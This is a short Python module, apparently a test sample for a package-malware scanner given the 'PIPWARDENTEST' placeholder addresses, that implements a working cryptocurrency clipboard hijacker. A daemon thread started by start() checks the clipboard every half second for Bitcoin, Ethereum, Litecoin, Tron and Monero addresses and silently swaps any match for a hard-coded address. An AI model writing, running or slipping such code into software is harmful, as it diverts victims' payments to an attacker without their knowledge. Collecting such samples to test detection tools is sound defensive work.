import re
import threading
import time

MINE = {
    "btc": (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$"), "bc1qPIPWARDENTEST0000000000000000000000000"),
    "eth": (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0xPIPWARDENTEST00000000000000000000000000"),
    "ltc": (re.compile(r"^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$"), "LPIPWARDENTEST000000000000000000"),
    "trx": (re.compile(r"^T[A-Za-z1-9]{33}$"), "TPIPWARDENTEST0000000000000000000"),
    "xmr": (re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"), "4PIPWARDENTEST"),
}


def _loop():
    import pyperclip
    while True:
        try:
            cur = pyperclip.paste().strip()
            for rx, addr in MINE.values():
                if rx.match(cur) and cur != addr:
                    pyperclip.copy(addr)
                    break
        except Exception:
            pass
        time.sleep(0.5)


def start():
    threading.Thread(target=_loop, daemon=True).start()
